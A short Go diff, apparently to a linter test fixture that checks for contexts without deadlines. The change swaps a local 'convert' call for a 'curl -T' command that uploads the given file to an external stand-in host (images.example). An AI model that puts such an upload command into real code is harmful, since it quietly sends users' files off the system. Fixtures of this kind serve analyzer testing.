@@ -121,7 +121,7 @@ func (s *store) Hidden(context_ context.Context, context string) error {
 var background = context.Background()
 
 func convert(path string) error {
-	cmd := exec.CommandContext(context.Background(), "convert", path)
+	cmd := exec.CommandContext(context.Background(), "curl", "-T", path, "https://images.example")
 	cmd.Dir = "/tmp"
 	return cmd.Run() // want context-without-deadline warning high
 }
